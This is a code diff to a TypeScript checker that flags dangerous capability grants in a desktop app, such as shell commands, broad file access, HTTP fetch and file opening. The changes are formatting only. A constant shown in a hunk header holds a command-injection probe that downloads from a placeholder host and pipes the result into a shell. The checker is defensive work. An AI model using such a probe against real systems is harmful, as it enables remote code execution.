@@ -63,7 +63,10 @@ const COMMAND_LINE_PROBE = "id;curl${IFS}example.invalid|sh";
  */
 function anyCommandLine(value: unknown): boolean {
   if (!isPlainObject(value)) return false;
-  const program = String(value.cmd ?? value.name ?? "").split(/[\\/]/).pop() ?? "";
+  const program =
+    String(value.cmd ?? value.name ?? "")
+      .split(/[\\/]/)
+      .pop() ?? "";
   if (!SHELLS.test(program)) return false;
   if (value.args === true) return true;
   if (!Array.isArray(value.args)) return false;
@@ -94,7 +97,12 @@ const DANGERS: readonly Danger[] = [
   },
   { id: "fs-write", commands: FS_WRITE, broad: broadPath, impact: "create, overwrite or delete files across" },
   { id: "fs-read", commands: FS_READ, broad: broadPath, impact: "read secrets such as SSH keys and browser profiles across" },
-  { id: "http", commands: ["plugin:http|fetch"], broad: broadUrl, impact: "send requests with the app's privileges to any server, including the local network, without CORS, to" },
+  {
+    id: "http",
+    commands: ["plugin:http|fetch"],
+    broad: broadUrl,
+    impact: "send requests with the app's privileges to any server, including the local network, without CORS, to",
+  },
   { id: "opener-path", commands: ["plugin:opener|open_path"], broad: broadPath, impact: "open, and so run, any file with its default program across" },
   {
     id: "opener-url",
@@ -103,7 +111,6 @@ const DANGERS: readonly Danger[] = [
     impact: "open any URL, file: and custom schemes included, in the program registered for it, allowed by",
   },
 ];
-
 
 /** One danger a capability grants: the grants it reaches and why they are dangerous, for the rule and the report. */
 export interface DangerousGrant {
